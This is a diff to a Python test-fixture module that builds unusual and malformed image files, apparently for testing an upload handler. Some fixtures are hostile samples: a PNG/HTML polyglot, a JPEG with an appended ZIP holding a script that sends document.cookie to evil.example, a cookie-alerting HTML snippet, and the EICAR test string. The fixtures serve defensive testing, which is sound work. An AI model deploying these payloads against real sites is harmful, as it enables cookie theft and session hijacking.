@@ -47,3 +47,127 @@ TEXT = b"this is not an image, whatever its name says\n"
 
 def oversized(megabytes: int = 11) -> bytes:
     return image_bytes("PNG") + b"\0" * (megabytes * 1024 * 1024)
+
+
+# --- more generators for test_hostile_corpus.py --------------------------------------------------
+
+
+def _save(image: Image.Image, fmt: str, **kwargs) -> bytes:
+    out = io.BytesIO()
+    image.save(out, fmt, **kwargs)
+    return out.getvalue()
+
+
+def png_large(width: int, height: int, alpha: bool = False) -> bytes:
+    """A real, fully decodable RGB (or RGBA) PNG of width×height, written row by row so that making
+    it costs a few MB instead of the full bitmap (a diagonal pattern, so it is not all one colour)."""
+    channels = 4 if alpha else 3
+    base = bytes((x * 7) & 0xFF for x in range(width * channels + 256))
+    compressor = zlib.compressobj(1)
+    parts = []
+    for y in range(height):
+        shift = (y * 3) % 256
+        parts.append(compressor.compress(b"\x00" + base[shift:shift + width * channels]))
+    parts.append(compressor.flush())
+    header = struct.pack(">IIBBBBB", width, height, 8, 6 if alpha else 2, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"".join(parts))
+            + _chunk(b"IEND", b""))
+
+
+def flipped_middle(data: bytes, count: int = 16) -> bytes:
+    """The same file with `count` bytes in the middle inverted (bit rot, a bad transfer)."""
+    middle = len(data) // 2
+    return data[:middle] + bytes(byte ^ 0xFF for byte in data[middle:middle + count]) + data[middle + count:]
+
+
+def truncated_jpeg() -> bytes:
+    data = image_bytes("JPEG", size=(600, 900))
+    return data[: len(data) // 2]
+
+
+def gif() -> bytes:
+    return _save(Image.new("RGB", (120, 120), (200, 30, 30)), "GIF")
+
+
+def _frames():
+    return [Image.new("RGB", (120, 120), colour) for colour in ((250, 0, 0), (0, 0, 250), (0, 200, 0))]
+
+
+def animated(fmt: str) -> bytes:
+    """A three-frame animation: "GIF", "WEBP" or "PNG" (APNG)."""
+    first, *rest = _frames()
+    return _save(first, fmt, save_all=True, append_images=rest, duration=100, loop=0)
+
+
+def png_html_polyglot() -> bytes:
+    """A valid PNG carrying an HTML page in a tEXt chunk: a browser sniffing it as HTML would run it."""
+    from PIL.PngImagePlugin import PngInfo
+
+    info = PngInfo()
+    info.add_text("Comment", "<html><body><script>alert(document.cookie)</script></body></html>")
+    return image_bytes("PNG", pnginfo=info)
+
+
+ZIP_MEMBER = "payload.js"
+
+
+def jpeg_zip_polyglot() -> bytes:
+    """A JPEG with a ZIP archive appended: both an image viewer and unzip open it."""
+    import zipfile
+
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as zipped:
+        zipped.writestr(ZIP_MEMBER, "fetch('https://evil.example/?c=' + document.cookie)")
+    return image_bytes("JPEG") + archive.getvalue()
+
+
+def tiff() -> bytes:
+    return _save(Image.new("RGB", (120, 120), (10, 120, 200)), "TIFF")
+
+
+def psd_header() -> bytes:
+    """The start of a Photoshop file: signature, version 1, 3 channels, 100×100, 8 bits, RGB."""
+    return (b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 100, 100, 8, 3) + b"\x00" * 64)
+
+
+def fits_header() -> bytes:
+    """A minimal FITS file (astronomy): 80-column header cards padded to 2880 bytes, then the data."""
+    cards = ["SIMPLE  =                    T", "BITPIX  =                    8", "NAXIS   =                    2",
+             "NAXIS1  =                   10", "NAXIS2  =                   10", "END"]
+    header = "".join(card.ljust(80) for card in cards).ljust(2880).encode("ascii")
+    return header + b"\x00" * 2880
+
+
+def cmyk_jpeg() -> bytes:
+    return _save(Image.new("CMYK", (320, 480), (10, 200, 30, 5)), "JPEG")
+
+
+def png_16bit() -> bytes:
+    """A 16-bit greyscale PNG (mode I;16) with a ramp from 0 to 59800 along row 10."""
+    image = Image.new("I;16", (300, 200))
+    for x in range(300):
+        image.putpixel((x, 10), x * 200)
+    return _save(image, "PNG")
+
+
+HUGE_EXIF_MARKER = b"EXIF-FILLER-"
+
+
+def jpeg_with_huge_exif(size: int = 60_000) -> bytes:
+    """A JPEG whose EXIF UserComment (in the Exif IFD) holds ~60 kB: near the 64 kB APP1 limit."""
+    exif = Image.Exif()
+    comment = b"ASCII\x00\x00\x00" + (HUGE_EXIF_MARKER * (size // len(HUGE_EXIF_MARKER) + 1))[:size]
+    exif.get_ifd(0x8769)[0x9286] = comment  # Exif IFD → UserComment
+    return _save(Image.new("RGB", (320, 480), (240, 240, 240)), "JPEG", exif=exif.tobytes())
+
+
+def jpeg_rotated_by_exif(size=(200, 400)) -> bytes:
+    """A JPEG (200×400 unless told) whose EXIF says "rotate 90° clockwise" (orientation 6)."""
+    exif = Image.Exif()
+    exif[0x0112] = 6
+    return _save(Image.new("RGB", size, (30, 30, 30)), "JPEG", exif=exif.tobytes())
+
+
+# The EICAR anti-virus test string: harmless, but every scanner flags it.
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
